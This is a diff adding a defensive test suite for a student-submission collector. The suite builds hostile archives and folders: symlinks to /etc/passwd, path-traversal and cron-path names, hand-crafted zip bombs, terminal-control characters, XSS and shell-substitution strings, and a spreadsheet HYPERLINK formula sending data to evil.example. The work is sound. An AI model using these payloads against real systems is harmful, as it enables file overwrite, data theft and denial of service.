@@ -1,0 +1,564 @@
+"""Attacks by name: each costs the one who made it, is refused in words that staff understand, and harms nobody else.
+
+Every source holds an honest student too, whose work must be collected whole. Nothing is stored: the attacks are made here.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import os
+import stat
+import struct
+import time
+import tracemalloc
+import zipfile
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from cnngrade import collect as collecting
+from cnngrade.cells import MAX_BYTES, read_work
+from cnngrade.collect import TIMESTAMP, Collected, Fate, collect
+from cnngrade.errors import SubmissionError, UsageError
+from cnngrade.handed_in import bad_student
+from cnngrade.model import Course, Unit
+from cnngrade.nbgrader.submitted import student_cells
+from cnngrade.sources import MAX_FILE_BYTES
+
+UNIT = Unit("convolution", "Convolution", 20.0, 1.0, ("conv2d",))
+WORK = b"def conv2d(x, w):\n    return x\n"
+HONEST = {"bob/convolution.py": WORK, "bob/data/cat.txt": b"cat"}
+REGULAR = stat.S_IFREG | 0o644
+
+# A hang takes minutes; a busy machine takes its time.
+MOST_SECONDS = 60.0
+MOST_BYTES = 400 << 20
+
+
+@pytest.fixture
+def course(tmp_path: Path) -> Course:
+    root = tmp_path / "course"
+    root.mkdir()
+    return Course("vision", "Vision", root, (UNIT,))
+
+
+@pytest.fixture(autouse=True)
+def bounded(request: pytest.FixtureRequest) -> Iterator[None]:
+    """Hold every attack to a time and to an amount of memory."""
+    counts_memory = "no_tracing" not in request.fixturenames
+    if counts_memory:
+        tracemalloc.start()
+    start = time.monotonic()
+    yield
+    seconds = time.monotonic() - start
+    if counts_memory:
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        assert peak < MOST_BYTES
+    assert seconds < MOST_SECONDS
+
+
+@pytest.fixture
+def no_tracing() -> None:
+    """Tracing makes a million small objects take minutes; there the time alone is held to."""
+
+
+def entry(name: str, mode: int = REGULAR, method: int = zipfile.ZIP_STORED) -> zipfile.ZipInfo:
+    info = zipfile.ZipInfo(name, (2026, 2, 3, 4, 5, 6))
+    info.external_attr = mode << 16
+    info.compress_type = method
+    return info
+
+
+def archive_of(path: Path, *attack: tuple[zipfile.ZipInfo, bytes]) -> Path:
+    """Make an archive of the attack and of an honest student's work."""
+    with zipfile.ZipFile(path, "w") as archive:
+        for info, data in attack:
+            archive.writestr(info, data)
+        for name, data in HONEST.items():
+            archive.writestr(entry(name), data)
+    return path
+
+
+def folder_with_honest_work(path: Path) -> Path:
+    for name, data in HONEST.items():
+        (path / name).parent.mkdir(parents=True, exist_ok=True)
+        (path / name).write_bytes(data)
+    return path
+
+
+def tree(folder: Path) -> dict[str, bytes | None]:
+    """Return everything below a folder with its content; None for what is no regular file."""
+    return {
+        path.relative_to(folder).as_posix(): path.read_bytes() if path.is_file() and not path.is_symlink() else None
+        for path in folder.rglob("*")
+    }
+
+
+def refusals(course: Course, source: Path, *others: str) -> dict[str, str]:
+    """Collect, and return what was refused and why.
+
+    Whatever the attack was: bob's work is there whole, `others` and nobody else are there beside him, no draft is left, and
+    nothing else on the disk has changed.
+    """
+    root = course.root.parent
+    outside = {name: data for name, data in tree(root).items() if name.partition("/")[0] != course.root.name}
+    lines = collect(course, UNIT, source)
+    after = {name: data for name, data in tree(root).items() if name.partition("/")[0] != course.root.name}
+    assert outside == after
+    assert [path.name for path in course.root.iterdir()] == ["classroom"]
+    submitted = course.root / "classroom" / "submitted"
+    assert {path.name for path in submitted.iterdir()} == {"bob", *others}
+    bob = tree(submitted / "bob" / UNIT.name)
+    assert {name: data for name, data in bob.items() if name != TIMESTAMP} == {
+        "convolution.py": WORK, "data": None, "data/cat.txt": b"cat"
+    }  # fmt: skip
+    assert_told(lines)
+    return {line.found: line.reason for line in lines if line.fate is Fate.REFUSED}
+
+
+def assert_told(lines: tuple[Collected, ...]) -> None:
+    """every line can be printed: it is one line, moves no terminal, and a refusal has a reason"""
+    for line in lines:
+        text = str(line)
+        assert text.isprintable()
+        assert len(text) < 1_000
+        assert line.reason or line.fate is Fate.COLLECTED
+
+
+# Links and things that are no files
+
+
+def test_links_in_an_archive(course: Course, tmp_path: Path) -> None:
+    """a link to a file and a link to a folder are not made, and nothing is written through them"""
+    (tmp_path / "target").mkdir()
+    attack = [
+        (entry("eve/convolution.py", stat.S_IFLNK | 0o777), b"/etc/passwd"),
+        (entry("mallory", stat.S_IFLNK | 0o777), str(tmp_path / "target").encode()),
+        (entry("mallory/convolution.py"), WORK),
+    ]
+    refused = refusals(course, archive_of(tmp_path / "links.zip", *attack), "mallory")
+    assert refused == {"eve/convolution.py": "it is a link", "mallory": "it is a link"}
+    assert list((tmp_path / "target").iterdir()) == []
+    assert not (course.root / "classroom" / "submitted" / "mallory").is_symlink()
+
+
+def test_links_in_a_folder(course: Course, tmp_path: Path) -> None:
+    """a link to a file, to a folder, to itself and to nowhere are named and not followed"""
+    source = folder_with_honest_work(tmp_path / "handed-in")
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "convolution.py").write_bytes(b"secret\n")
+    (source / "eve").mkdir()
+    (source / "eve" / "convolution.py").symlink_to(secret / "convolution.py")
+    (source / "mallory").symlink_to(secret, target_is_directory=True)
+    (source / "loop").symlink_to(source, target_is_directory=True)
+    (source / "nowhere.py").symlink_to(tmp_path / "nothing")
+    assert refusals(course, source) == dict.fromkeys(("eve/convolution.py", "mallory", "loop", "nowhere.py"), "it is a link")
+
+
+@pytest.mark.parametrize("kind", [stat.S_IFCHR, stat.S_IFBLK, stat.S_IFIFO, stat.S_IFSOCK])
+def test_devices_in_an_archive(course: Course, tmp_path: Path, kind: int) -> None:
+    """a device, a pipe and a socket are not made"""
+    archive = archive_of(tmp_path / "devices.zip", (entry("eve/convolution.py", kind | 0o666), b""))
+    assert refusals(course, archive) == {"eve/convolution.py": "it is not a regular file"}
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs pipes")
+def test_a_pipe_in_a_folder(course: Course, tmp_path: Path) -> None:
+    """a pipe that nobody writes to keeps nobody waiting"""
+    source = folder_with_honest_work(tmp_path / "handed-in")
+    (source / "eve").mkdir()
+    os.mkfifo(source / "eve" / "convolution.py")
+    os.mkfifo(source / "eve.py")
+    assert refusals(course, source) == dict.fromkeys(("eve/convolution.py", "eve.py"), "it is not a regular file")
+
+
+# Paths
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        ("../../evil.py", "leads out of its folder"),
+        ("eve/../../../convolution.py", "leads out of its folder"),
+        ("eve/..", "leads out of its folder"),
+        ("/etc/cron.d/convolution.py", "not a relative one"),
+        ("//host/share/convolution.py", "not a relative one"),
+        ("C:/eve/convolution.py", "not a relative one"),
+        ("eve\\..\\..\\convolution.py", "not a relative one"),
+        ("eve/convolution.py:stream", "not allowed on every system"),
+        ("eve/aux.py", "not allowed on every system"),
+        ("eve/" + "a/" * 5_000 + "convolution.py", "longer than 240 characters"),
+        ("e" * 60_000 + "/convolution.py", "longer than 240 characters"),
+    ],
+    ids=lambda text: text[:30],
+)
+@pytest.mark.parametrize("wrapper", ["", "handed in/"])
+def test_paths_that_lead_elsewhere(course: Course, tmp_path: Path, name: str, reason: str, wrapper: str) -> None:
+    """one path that leads out is refused alone, also where all the others lie in a folder that wraps them"""
+    with zipfile.ZipFile(tmp_path / "paths.zip", "w") as archive:
+        archive.writestr(entry(name), WORK)
+        for honest, data in HONEST.items():
+            archive.writestr(entry(wrapper + honest), data)
+    ((found, said),) = refusals(course, tmp_path / "paths.zip").items()
+    assert (found, reason in said) == (name, True)
+
+
+def test_folders_beyond_what_can_be_walked(course: Course, tmp_path: Path) -> None:
+    """a thousand folders in one another are refused as one, by the path where it became too long"""
+    source = folder_with_honest_work(tmp_path / "handed-in")
+    inner, outer = source / "eve", source / "outer"
+    inner.mkdir()
+    for _ in range(1_200):
+        outer.mkdir()
+        inner.rename(outer / "d")
+        outer.rename(inner)
+    lines = collect(course, UNIT, source)
+    (refused,) = [line for line in lines if line.fate is Fate.REFUSED]
+    assert refused.found.startswith("eve/d/d/d")
+    assert "longer than 240 characters" in refused.reason
+    assert [line.student for line in lines if line.taken] == ["bob"]
+    # Whoever clears up would recurse.
+    while (inner / "d").exists():
+        (inner / "d").rename(outer)
+        inner.rmdir()
+        outer.rename(inner)
+
+
+# Sizes
+
+
+def test_a_bomb(course: Course, tmp_path: Path) -> None:
+    """a small archive of a large file is refused by what it says of itself, before it is unpacked"""
+    zeros = b"\0" * (MAX_FILE_BYTES + 1)
+    archive = archive_of(tmp_path / "bomb.zip", (entry("eve/convolution.py", method=zipfile.ZIP_DEFLATED), zeros))
+    assert archive.stat().st_size < 100_000
+    assert refusals(course, archive) == {"eve/convolution.py": "it is larger than 64 MiB"}
+
+
+def test_a_bomb_that_says_it_is_small(course: Course, tmp_path: Path) -> None:
+    """an archive that lies about a size is noticed while it is unpacked"""
+    size = MAX_FILE_BYTES + 1
+    archive = archive_of(tmp_path / "bomb.zip", (entry("eve/convolution.py", method=zipfile.ZIP_DEFLATED), b"\0" * size))
+    archive.write_bytes(archive.read_bytes().replace(struct.pack("<L", size), struct.pack("<L", 100)))
+    (reason,) = refusals(course, archive).values()
+    assert reason.startswith("it cannot be unpacked")
+
+
+@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+def test_a_bomb_by_another_method(course: Course, tmp_path: Path, method: int) -> None:
+    """methods that unpack a whole block at once are not read: a kilobyte may be a gigabyte before it can be counted"""
+    zeros = b"\0" * (MAX_FILE_BYTES - 1)
+    archive = archive_of(tmp_path / "bomb.zip", (entry("eve/convolution.py", method=method), zeros))
+    (reason,) = refusals(course, archive).values()
+    assert reason == "it is compressed in a way that is not read here: make the archive again, as an ordinary .zip file"
+
+
+def listed(name: bytes, method: int, facts: tuple[int, int, int], start: int) -> bytes:
+    """Return an entry of an archive's directory; `facts` are checksum, packed and unpacked size."""
+    numbers = (20, 20, 0, method, 0, 33, *facts, len(name), 0, 0, 0, 0, REGULAR << 16, start)
+    return struct.pack("<4s6H3L5H2L", b"PK\1\2", *numbers) + name
+
+
+def overlapping(path: Path, entries: int) -> Path:
+    """Make an archive whose many entries are all the same packed bytes, beside an honest student's work."""
+    size = 1 << 20
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(b"\0" * size) + packer.flush()
+    crc = zlib.crc32(b"\0" * size)
+    archive_of(path)
+    with zipfile.ZipFile(path) as honest:
+        start = honest.start_dir
+        count = len(honest.infolist())
+    data = path.read_bytes()
+    body, directory = data[:start], data[start : data.rindex(b"PK\5\6")]
+    shared = b"eve/0000.bin"
+    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), size, len(shared), 0) + shared + packed
+    for number in range(entries):
+        name = f"eve/{number:04}.bin".encode() if number else b"eve/convolution.py"
+        directory += listed(name, 8, (crc, len(packed), size), start)
+    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count + entries, count + entries, len(directory), start + len(local), 0)
+    path.write_bytes(body + local + directory + end)
+    return path
+
+
+@pytest.mark.parametrize(("entries", "reason"), [(100, "it cannot be unpacked"), (900, "larger than 128 MiB together")])
+def test_a_bomb_of_overlapping_entries(course: Course, tmp_path: Path, entries: int, reason: str) -> None:
+    """many entries that share the same bytes count as many, and cost the one student whose they are"""
+    archive = overlapping(tmp_path / "bomb.zip", entries)
+    assert archive.stat().st_size < 100_000
+    ((found, said),) = refusals(course, archive).items()
+    assert (found, reason in said) == ("eve", True)
+
+
+def test_a_bomb_in_a_bomb(course: Course, tmp_path: Path) -> None:
+    """an archive in an archive is a file like any other: it is never opened"""
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("../../evil.py", b"\0" * (8 << 20))
+    attack = [(entry("eve/more.zip"), inner.getvalue()), (entry("eve/convolution.py"), WORK), (entry("all.zip"), b"PK")]
+    refused = refusals(course, archive_of(tmp_path / "nested.zip", *attack), "eve")
+    assert refused == {"all.zip": "it is neither a script nor a notebook, and no student's folder"}
+    assert (course.root / "classroom/submitted/eve/convolution/more.zip").read_bytes() == inner.getvalue()
+
+
+def test_a_gigabyte_in_a_folder(course: Course, tmp_path: Path) -> None:
+    """a file of a gigabyte is refused without being read; the same student's other files are taken"""
+    source = folder_with_honest_work(tmp_path / "handed-in")
+    for name in ("eve/convolution.py", "carol/video.mp4"):
+        (source / name).parent.mkdir()
+        with (source / name).open("wb") as file:
+            file.truncate(1 << 30)
+    (source / "carol" / "convolution.py").write_bytes(WORK)
+    lines = collect(course, UNIT, source)
+    refused = {line.found: line.reason for line in lines if line.fate is Fate.REFUSED}
+    assert refused == dict.fromkeys(("carol/video.mp4", "eve/convolution.py"), "it is larger than 64 MiB")
+    assert [line.student for line in lines if line.taken] == ["bob", "carol"]
+    assert sum(path.stat().st_size for path in course.root.rglob("*") if path.is_file()) < 10_000
+
+
+def test_a_gigabyte_of_zeros_in_an_archive(course: Course, tmp_path: Path) -> None:
+    """a megabyte that unpacks to a gigabyte of zeros is refused by name"""
+    path = archive_of(tmp_path / "zeros.zip")
+    with zipfile.ZipFile(path, "a") as archive, archive.open(entry("eve/convolution.py", method=8), "w") as out:
+        for _ in range(1 << 10):
+            out.write(bytes(1 << 20))
+    assert path.stat().st_size < 2 << 20
+    assert refusals(course, path) == {"eve/convolution.py": "it is larger than 64 MiB"}
+
+
+# Numbers
+
+
+def empty_entries(path: Path, names: Iterator[str]) -> Path:
+    """Make an archive of empty files; by hand, since zipfile takes a minute for a hundred thousand."""
+    archive_of(path)
+    data = path.read_bytes()
+    place = data.rindex(b"PK\5\6")
+    size, start = struct.unpack("<2L", data[place + 12 : place + 20])
+    body, directory, count = data[:start], [data[start : start + size]], len(HONEST)
+    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"x"
+    for name in names:
+        directory.append(listed(name.encode(), 0, (0, 0, 0), start))
+        count += 1
+    whole = b"".join(directory)
+    begin = start + len(local)
+    end64 = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(whole), begin)
+    locator = struct.pack("<4sLQL", b"PK\6\7", 0, begin + len(whole), 1)
+    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(whole), begin, 0)
+    path.write_bytes(body + local + whole + end64 + locator + end)
+    return path
+
+
+@pytest.mark.usefixtures("no_tracing")
+def test_a_hundred_thousand_files_of_one_student(course: Course, tmp_path: Path) -> None:
+    """a student with a hundred thousand files is refused, and nobody else is"""
+    archive = empty_entries(tmp_path / "many.zip", (f"eve/{number}.txt" for number in range(100_001)))
+    assert refusals(course, archive) == {"eve": "there are 100,001 files; of one student at most 1,000 are read"}
+
+
+@pytest.mark.usefixtures("no_tracing")
+def test_a_hundred_thousand_students(course: Course, tmp_path: Path) -> None:
+    """more students than any class has are an error that says how many are read, before anything is written"""
+    archive = empty_entries(tmp_path / "many.zip", (f"s{number}.py" for number in range(100_001)))
+    with pytest.raises(UsageError, match=r"100,003 files of 0 MiB\. At most 50,000 files .*: collect in parts"):
+        collect(course, UNIT, archive)
+    assert list(course.root.iterdir()) == []
+
+
+def test_more_entries_than_are_looked_at(course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """beyond a million entries nothing of an archive or a folder is looked at, and that is said"""
+    monkeypatch.setattr(collecting, "MAX_ENTRIES", 1)
+    with pytest.raises(UsageError, match="holds 2 files; at most 1 are read"):
+        collect(course, UNIT, archive_of(tmp_path / "many.zip"))
+    with pytest.raises(UsageError, match="more than 1 files"):
+        collect(course, UNIT, folder_with_honest_work(tmp_path / "handed-in"))
+
+
+# Names
+
+
+CONTROL = [
+    "e\x1b[2Jve", "e\nve", "e\x00ve", "ev\x7fe", "e\x9bve", "e\u202eve", "e\u2066ve", "e\u200bve", "\ufeffeve", "e\u2028ve"
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", CONTROL, ids=ascii)
+def test_control_characters_in_names(course: Course, tmp_path: Path, name: str) -> None:
+    """a name with what moves a terminal, or makes letters run backwards, is refused and shown harmless"""
+    archive = archive_of(tmp_path / "names.zip", (entry("x"), b""))
+    with zipfile.ZipFile(archive, "a") as out:
+        info = entry("y")
+        # zipfile would cut the name at a NUL on the way in, as it does on the way out.
+        info.filename = f"{name}/convolution.py"
+        out.writestr(info, WORK)
+    refused = refusals(course, archive)
+    del refused["x"]
+    ((_, reason),) = refused.items()
+    assert "control characters" in reason or "neither a script" in reason
+
+
+def test_names_that_are_no_unicode(course: Course, tmp_path: Path) -> None:
+    """bytes that are no UTF-8 are refused by name in a folder, and cost no other in an archive"""
+    source = folder_with_honest_work(tmp_path / "handed-in")
+    try:
+        os.mkdir(os.fsencode(source) + b"/ev\xff\xfe")  # noqa: PTH102 - a Path holds no such bytes
+    except OSError:
+        pytest.skip("this file system takes no such name")
+    (source / "ev\udcff\udcfe" / "convolution.py").write_bytes(WORK)
+    assert refusals(course, source) == {"ev\udcff\udcfe/convolution.py": "its name has control characters"}
+
+
+def test_an_archive_whose_names_are_no_unicode(course: Course, tmp_path: Path) -> None:
+    """an archive that says its names are UTF-8 when they are not is an error for people"""
+    archive = archive_of(tmp_path / "names.zip", (entry("\u00e9ve/convolution.py"), WORK))
+    archive.write_bytes(archive.read_bytes().replace("\u00e9ve".encode(), b"\xff\xfeve"))
+    with pytest.raises(UsageError, match="not a zip archive"):
+        collect(course, UNIT, archive)
+    assert list(course.root.iterdir()) == []
+
+
+def test_one_spelling_for_names_that_look_alike(course: Course, tmp_path: Path) -> None:
+    """a letter with its accent apart is the same student; what was sent twice is not mixed"""
+    attack = [(entry("zoe\u0308/convolution.py"), WORK), (entry("zo\u00eb/convolution.py"), b"other\n")]
+    archive = archive_of(tmp_path / "names.zip", *attack)
+    assert refusals(course, archive, "zo\u00eb") == {}
+
+
+def test_names_that_differ_in_case(course: Course, tmp_path: Path) -> None:
+    """files, and students, whose names some systems cannot tell apart are refused together"""
+    attack = [
+        (entry("eve/convolution.py"), WORK),
+        (entry("eve/Data.txt"), b"1"),
+        (entry("eve/data.TXT"), b"2"),
+        (entry("Mallory/convolution.py"), WORK),
+        (entry("mallory/convolution.py"), WORK),
+    ]
+    assert refusals(course, archive_of(tmp_path / "case.zip", *attack)) == {
+        "eve": "the names Data.txt and data.TXT differ only in upper and lower case",
+        "Mallory": "several students' names differ only in upper and lower case",
+        "mallory": "several students' names differ only in upper and lower case",
+    }
+
+
+def test_a_file_that_is_a_folder_too(course: Course, tmp_path: Path) -> None:
+    """a name that is a file and a folder at once cannot be written, and nothing of it stays"""
+    attack = [(entry("eve/convolution.py"), WORK), (entry("eve/convolution.py/x"), b"")]
+    ((found, reason),) = refusals(course, archive_of(tmp_path / "both.zip", *attack)).items()
+    assert (found, reason.startswith("it cannot be written")) == ("eve", True)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1)', "=cmd", "+1", "+SUM", "@SUM(A1)", "@SUM", "-2+3", "-cmd", "\t=1", "'=1",
+    "\uff1d1", "\uff20SUM",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("student", FORMULAS, ids=ascii)
+def test_formulas_for_names(course: Course, tmp_path: Path, student: str) -> None:
+    """a gradebook is opened as a table: no id begins as a formula does"""
+    assert bad_student(student)
+    name = f"{student.replace('/', '')}_convolution.py"
+    refused = refusals(course, archive_of(tmp_path / "formulas.zip", (entry(name), WORK)))
+    assert list(refused) == [name]
+
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"onmouseover="x',
+    "eve&amp;",
+    "$(reboot)",
+    "`id`",
+    "%s%n",
+]
+
+
+@pytest.mark.parametrize("student", MARKUP)
+def test_markup_and_commands_for_names(course: Course, tmp_path: Path, student: str) -> None:
+    """what a browser or a shell would take for its own is no id"""
+    assert bad_student(student)
+    attack = (entry(f"{student}_convolution.py"), WORK)
+    assert len(refusals(course, archive_of(tmp_path / "markup.zip", attack))) == 1
+
+
+@pytest.mark.parametrize("student", ["ada", "a.b@uni.example", "zo\u00eb", "\u674e\u660e", "ada-lovelace_2", "_x", "7"])
+def test_ordinary_names_are_ids(student: str) -> None:
+    """letters of any script, digits and the signs within them are taken"""
+    assert bad_student(student) == ""
+
+
+@pytest.mark.parametrize("student", ["NUL", "con", "Com1", "aux.txt", ".hidden", "dot.", "", "x" * 129])
+def test_names_that_no_folder_has_everywhere(student: str) -> None:
+    """an id is the name of a folder, on any system"""
+    assert bad_student(student)
+
+
+def test_times_beyond_the_calendar(course: Course, tmp_path: Path) -> None:
+    """a file of the year thirty thousand, and an archive's 31 February, stop nobody"""
+    source = folder_with_honest_work(tmp_path / "handed-in")
+    (source / "eve.py").write_bytes(WORK)
+    try:
+        os.utime(source / "eve.py", (9e11, 9e11))
+    except (OSError, OverflowError):
+        pytest.skip("this file system knows no such time")
+    assert refusals(course, source, "eve") == {}
+
+
+# Notebooks
+
+
+def test_a_notebook_of_65_mb(course: Course, tmp_path: Path) -> None:
+    """a notebook beyond the limit is refused where it is collected, and where it is read, by name and size"""
+    source = folder_with_honest_work(tmp_path / "handed-in")
+    (source / "eve").mkdir()
+    path = source / "eve" / "convolution.ipynb"
+    with path.open("wb") as file:
+        file.write(b'{"cells": [')
+        file.truncate(MAX_BYTES + (1 << 20))
+    lines = collect(course, UNIT, source)
+    assert {line.found: line.reason for line in lines if line.fate is Fate.REFUSED} == {
+        "eve/convolution.ipynb": "it is larger than 64 MiB"
+    }
+    with pytest.raises(SubmissionError, match=r"convolution\.ipynb has 65 MiB; at most 64 MiB are read"):
+        read_work(path, UNIT.name)
+
+
+@pytest.mark.usefixtures("no_tracing")
+@pytest.mark.parametrize("cell", ['{"cell_type":"code","source":"a"}', "{}"])
+def test_a_notebook_of_a_million_cells(tmp_path: Path, cell: str) -> None:
+    """a million cells are counted, and none is parsed"""
+    path = tmp_path / "convolution.ipynb"
+    path.write_text('{"cells": [' + ",".join([cell] * 1_000_000) + "]}")
+    with pytest.raises(SubmissionError, match=r"1,000,000 cells; at most 10,000 are read"):
+        read_work(path, UNIT.name)
+
+
+LONG = {
+    "a million empty lines": "x = 1" + "\n" * 1_000_000 + "y = 1",
+    "a million spaces": " " * 1_000_000 + "x",
+    "a million calls of ours": "cnngrade.check(1)\n" * 200_000,
+    "a marker that never ends": "# %% " + "tags=[" * 150_000,
+    "a million brackets": "(" * 1_000_000,
+    "a million cells": "#%%\n" * 1_000_000,
+    "five megabytes": "x = 1\n" * 900_000,
+    "empty strings without end": "'''" * 300_000,
+}
+
+
+@pytest.mark.usefixtures("no_tracing")
+@pytest.mark.parametrize("suffix", ["py", "ipynb"])
+@pytest.mark.parametrize("text", LONG.values(), ids=LONG.keys())
+def test_long_code_is_read_in_time(tmp_path: Path, text: str, suffix: str) -> None:
+    """no code takes the square of its length to be read, whoever reads it"""
+    path = tmp_path / f"convolution.{suffix}"
+    cell = {"cell_type": "code", "metadata": {"tags": ["playground"]}, "source": text}
+    path.write_text(text if suffix == "py" else json.dumps({"cells": [cell]}))
+    for read in (lambda: read_work(path, UNIT.name), lambda: student_cells(path)):
+        with contextlib.suppress(SubmissionError):
+            assert read() is not None
